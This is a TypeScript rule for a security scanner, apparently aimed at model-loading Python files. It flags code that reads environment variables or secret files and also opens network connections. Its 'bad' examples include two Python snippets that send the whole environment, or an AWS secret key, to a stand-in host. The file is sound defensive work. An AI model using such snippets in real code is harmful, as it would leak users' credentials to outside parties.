import { fetchers, secretMarks, senders } from '../data/python-names.ts';
import { type Sequence, termsIn } from '../../formats/python-source/syntax.ts';
import { defineRule } from '../rule.ts';
import { analyse } from './analysis.ts';
import { matches } from './matches.ts';

interface Data {
  readonly secret: string;
  readonly sender: string;
  readonly line: number;
}

export const pythonExfiltration = defineRule<Data>()({
  id: 'python-exfiltration',
  title: 'Code that reads secrets and reaches the network',
  severity: 'high',
  facet: 'python',
  formats: ['python-source'],
  references: [
    { kind: 'CWE', id: 'CWE-200' },
    { kind: 'ATLAS', id: 'AML.T0025' },
    { kind: 'OWASP', id: 'LLM02' },
  ],
  why: 'Keys and tokens lie in environment variables and well-known files. Code that reads them, or the whole environment, and also opens connections can give them away.',
  fix: 'Do not load it where secrets are within reach; rotate those that were.',
  examples: {
    bad: [
      {
        name: 'modeling_x.py',
        content: 'import os, requests\nrequests.post("https://example.net", json=dict(os.environ))\n',
      },
      {
        name: 'modeling_x.py',
        content:
          'import os, urllib.request\nk = os.environ["AWS_SECRET_ACCESS_KEY"]\nurllib.request.urlopen("https://example.net/?" + k)\n',
      },
    ],
    good: [
      { name: 'modeling_x.py', content: 'import os\ncache = os.environ.get("HF_HOME", "~/.cache")\ntoken = "<eos>"\n' },
    ],
  },
  message: (data) => `line ${data.line}: reads ${data.secret}, and uses ${data.sender}`,
  check(module, report) {
    const { uses, strings } = analyse(module);
    const sender = uses.find((use) => use.known && (matches(use.path, senders) || matches(use.path, fetchers)));
    if (sender === undefined) return;
    const wholeEnvironment = uses.find(
      (use) =>
        use.args !== undefined &&
        /^(?:dict|str|repr|list|json\.dumps|os\.environ\.(?:items|copy|values))$/.test(use.path) &&
        namesEnvironment(use.path, use.args),
    );
    if (wholeEnvironment !== undefined)
      report({ data: { secret: 'the environment', sender: sender.path, line: wholeEnvironment.line } });
    const readsFiles = uses.some(
      (use) =>
        use.path === 'open' ||
        use.path.startsWith('os.environ') ||
        use.path === 'os.getenv' ||
        use.path.endsWith('.read_text'),
    );
    const secret = readsFiles ? strings.find(({ text }) => text.length < 200 && secretMarks.test(text)) : undefined;
    if (secret !== undefined) report({ data: { secret: secret.text, sender: sender.path, line: secret.line } });
  },
});

function namesEnvironment(path: string, args: readonly Sequence[]): boolean {
  if (path.startsWith('os.environ')) return true;
  for (const { trailers, atom } of termsIn(args.flat())) {
    const last = trailers.at(-1);
    if (
      last === undefined
        ? atom.kind === 'name' && atom.name === 'environ'
        : last.kind === 'attribute' && last.name === 'environ'
    )
      return true;
  }
  return false;
}
